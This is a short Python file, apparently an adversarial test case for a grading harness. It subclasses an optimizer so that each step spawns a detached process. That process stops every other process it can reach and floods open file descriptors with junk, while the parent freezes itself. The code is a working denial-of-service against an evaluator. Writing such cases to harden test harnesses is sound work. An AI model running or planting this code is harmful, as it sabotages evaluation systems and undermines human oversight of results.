"""Detached children stop whatever they may, and write into every descriptor that they have, faster than it is read."""

# attacks: optimizer.plain

import contextlib
import os
import signal

import wrong
from wrong import *  # noqa: F403


def flood():
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))) if os.path.exists("/submission") else ():
        with contextlib.suppress(OSError):
            if pid != os.getpid():
                os.kill(pid, signal.SIGSTOP)
    while True:
        for fd in range(3, 40):
            with contextlib.suppress(OSError):
                os.set_blocking(fd, False)
                os.write(fd, b"attack-left-behind" * 1000)


class ZeroOptimizer(wrong.ZeroOptimizer):
    def step(self):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                flood()
            os._exit(0)
        os.kill(os.getpid(), signal.SIGSTOP)
